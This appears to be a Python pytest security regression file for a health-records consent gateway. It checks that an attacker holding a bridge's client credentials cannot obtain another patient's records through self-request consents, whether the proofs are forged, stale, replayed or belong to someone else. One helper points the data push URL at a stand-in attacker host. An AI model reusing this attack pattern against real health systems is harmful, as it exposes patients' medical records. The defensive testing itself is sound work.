"""A self-request (purpose PATRQT) is granted only with the patient's proof, bound to
that one request (ADR 0012): tried as an attacker would, with the bridge's client
credentials and the same HTTP requests the PHR's HIU sends.

The attack this closes: with the demo bridge's credentials, a consent init with
purpose PATRQT for another patient's ABHA address was granted at once (no SMS, no
approval) and the HIP pushed the records to a listener of the attacker's choosing."""

from __future__ import annotations

import json
import uuid
from datetime import timedelta
from typing import Any

import httpx
import pytest

from healthstack.facility.records.models import HiuConsentRequest, HiuReceivedRecord
from healthstack.integrations.abdm.client import stamp
from healthstack.network.abha.auth import issue_self_request_token, issue_user_tokens
from healthstack.network.consent.models import ConsentArtefact, ConsentRequest
from healthstack.protocol.abdm import messages as m
from healthstack.protocol.abdm.fidelius import generate_key_material
from tests.factories_hie import (
    CLIENT_ID,
    GATEWAY_URL,
    PATIENT_ADDRESS,
    SECRET,
    Exchange,
    hie_settings,
    linked_patient,
    patient_asks,
)

SELF_REQUEST_REFUSED = "ABDM-1228"


@pytest.fixture
def settings(settings):
    return hie_settings(settings)


class Attacker:
    """Whoever holds a bridge's client id and secret, talking to the gateway."""

    def __init__(self, hie: Exchange):
        self.hie = hie
        r = self._post(
            "/gateway/v3/sessions",
            {"clientId": CLIENT_ID, "clientSecret": SECRET, "grantType": "client_credentials"},
            {},
        )
        assert r.status_code == 200, r.text
        self.token = r.json()["accessToken"]

    def _post(self, path: str, body: dict[str, Any], headers: dict[str, str]) -> httpx.Response:
        request = httpx.Request(
            "POST",
            GATEWAY_URL + path,
            json=body,
            headers={"Content-Type": "application/json", **headers},
        )
        return self.hie.network.handle_request(request)

    def send(
        self, path: str, body: dict[str, Any], *, hiu: str, auth_token: str | None = None
    ) -> httpx.Response:
        headers = {
            "Authorization": f"Bearer {self.token}",
            "REQUEST-ID": str(uuid.uuid4()),
            "TIMESTAMP": stamp(self.hie.runtime.clock.now()),
            "X-CM-ID": "sbx",
            "X-HIU-ID": hiu,
        }
        if auth_token is not None:
            headers["X-AUTH-TOKEN"] = auth_token
        return self._post(path, body, headers)


def self_request(hie: Exchange, *, address: str = PATIENT_ADDRESS, **over: Any) -> dict[str, Any]:
    """The body the PHR's HIU sends for a patient's own records."""
    now = hie.runtime.clock.now()
    consent: dict[str, Any] = {
        "purpose": {"text": "Self Requested", "code": "PATRQT", "refUri": m.PURPOSE_REF_URI},
        "patient": {"id": address},
        "hiu": {"id": hie.phr_hiu},
        "requester": {
            "name": "Asha Devi",
            "identifier": {
                "type": "ABHA_ADDRESS",
                "value": address,
                "system": "https://healthid.abdm.gov.in",
            },
        },
        "hiTypes": ["Prescription", "DiagnosticReport"],
        "permission": {
            "accessMode": "VIEW",
            "dateRange": {
                "from": m.abdm_timestamp(now - timedelta(days=365)),
                "to": m.abdm_timestamp(now),
            },
            "dataEraseAt": m.abdm_timestamp(now + timedelta(days=30)),
            "frequency": {"unit": "HOUR", "value": 1, "repeats": 0},
        },
        **over,
    }
    return {"consent": consent}


def on_init_errors(hie: Exchange) -> list[str | None]:
    """The error codes of the on-init callbacks the bridge received, in order."""
    out = []
    for request in hie.network.callbacks(m.ON_CONSENT_INIT):
        body = m.OnConsentInit.model_validate_json(request.content)
        out.append(body.error.code if body.error else None)
    return out


def data_request(consent_id: str, hie: Exchange) -> dict[str, Any]:
    now = hie.runtime.clock.now()
    return {
        "hiRequest": {
            "consent": {"id": consent_id},
            "dateRange": {
                "from": m.abdm_timestamp(now - timedelta(days=365)),
                "to": m.abdm_timestamp(now),
            },
            "dataPushUrl": "https://listener.attacker.example/push",
            "keyMaterial": generate_key_material().wire(now + timedelta(days=1)).to_dict(),
        }
    }


def test_bridge_credentials_alone_grant_no_self_request(hie: Exchange, runtime):
    linked_patient(hie, documents=2)  # the victim, with records linked at HIP A
    attacker = Attacker(hie)

    # As the attacker did it: PATRQT for another patient's ABHA address, no proof.
    r = attacker.send(m.CONSENT_INIT, self_request(hie), hiu=hie.phr_hiu)
    assert r.status_code == 202, r.text  # accepted for processing, as any request
    hie.settle()

    assert on_init_errors(hie) == [SELF_REQUEST_REFUSED]
    assert hie.rows(ConsentRequest) == [] and hie.rows(ConsentArtefact) == []
    assert not hie.sms(template="consent.request")  # refused, not put to the patient
    [refused] = hie.audit("consent.request.init", failed=True)
    assert (refused.reason_code, refused.actor_id) == (SELF_REQUEST_REFUSED, hie.phr_hiu)

    # Nothing to fetch with: no artefact exists, and a guessed id is refused.
    r = attacker.send(m.HI_REQUEST, data_request(str(uuid.uuid4()), hie), hiu=hie.phr_hiu)
    assert r.status_code == 202
    hie.settle()
    [answer] = hie.network.callbacks(m.ON_HI_REQUEST)
    assert json.loads(answer.content)["error"]["code"] == "ABDM-1220"
    assert hie.network.pushes() == [] and hie.rows(HiuReceivedRecord) == []


def test_tokens_that_are_not_this_requests_proof_are_refused(hie: Exchange, runtime):
    account, _ = linked_patient(hie, documents=2)
    attacker = Attacker(hie)
    body = self_request(hie)
    # The patient's ordinary user token (say, copied from a PHR session) proves a
    # login, not this request; a proof for another request, another patient, an
    # expired one, and a forged string prove nothing either.
    other_body = self_request(hie, hiTypes=["Prescription"])
    proofs = [
        issue_user_tokens(
            account,
            keyring=runtime.keyring,
            clock=runtime.clock,
            abha_settings=runtime.settings.abha,
        ).token,
        issue_self_request_token(
            account,
            consent=other_body["consent"],
            keyring=runtime.keyring,
            clock=runtime.clock,
            ttl_seconds=runtime.settings.consent.self_request_proof_seconds,
        ),
        "not-a-token",
    ]
    for proof in proofs:
        r = attacker.send(m.CONSENT_INIT, body, hiu=hie.phr_hiu, auth_token=proof)
        assert r.status_code == 202, r.text
    stale = issue_self_request_token(
        account,
        consent=body["consent"],
        keyring=runtime.keyring,
        clock=runtime.clock,
        ttl_seconds=runtime.settings.consent.self_request_proof_seconds,
    )
    runtime.clock.advance(minutes=11)
    body = self_request(hie)  # the same request, at the later time
    attacker.send(m.CONSENT_INIT, body, hiu=hie.phr_hiu, auth_token=stale)
    hie.settle()
    assert on_init_errors(hie) == [SELF_REQUEST_REFUSED] * 4
    assert hie.rows(ConsentRequest) == []


def test_a_proof_seen_once_cannot_be_used_again(hie: Exchange, runtime):
    account, _ = linked_patient(hie, documents=2)
    patient_asks(hie, account)  # the patient's own fetch, through the PHR: granted
    hie.settle()
    [granted] = hie.rows(ConsentRequest)
    assert granted.status == "GRANTED"
    [sent] = [r for r in hie.network.to_gateway if r.url.path.endswith(m.CONSENT_INIT)]
    seen = sent.headers["X-AUTH-TOKEN"]
    body = m.ConsentInitRequest.model_validate_json(sent.content)

    attacker = Attacker(hie)
    # The same request again with the proof it carried (a new REQUEST-ID) ...
    attacker.send(m.CONSENT_INIT, m.dump(body), hiu=hie.phr_hiu, auth_token=seen)
    # ... or that proof on a wider request, or on another patient's.
    wider = m.dump(body)
    wider["consent"]["hiTypes"] = [t.value for t in m.HiType]
    attacker.send(m.CONSENT_INIT, wider, hiu=hie.phr_hiu, auth_token=seen)
    hie.settle()
    assert on_init_errors(hie) == [None, SELF_REQUEST_REFUSED, SELF_REQUEST_REFUSED]
    assert [r.status for r in hie.rows(ConsentRequest)] == ["GRANTED"]
    assert len(hie.rows(HiuConsentRequest)) == 1


def test_a_proof_names_the_patient_of_the_request(hie: Exchange, runtime):
    from tests.factories_hie import patient_account

    linked_patient(hie, documents=2)
    other = patient_account(runtime, handle="ravi.k", mobile="9876500099", name="Ravi Kumar")
    attacker = Attacker(hie)
    # Ravi's proof, made for a request about Asha: Ravi cannot read Asha's records.
    body = self_request(hie)
    proof = issue_self_request_token(
        other,
        consent=body["consent"],
        keyring=runtime.keyring,
        clock=runtime.clock,
        ttl_seconds=runtime.settings.consent.self_request_proof_seconds,
    )
    attacker.send(m.CONSENT_INIT, body, hiu=hie.phr_hiu, auth_token=proof)
    hie.settle()
    assert on_init_errors(hie) == [SELF_REQUEST_REFUSED]
    assert hie.rows(ConsentRequest) == []
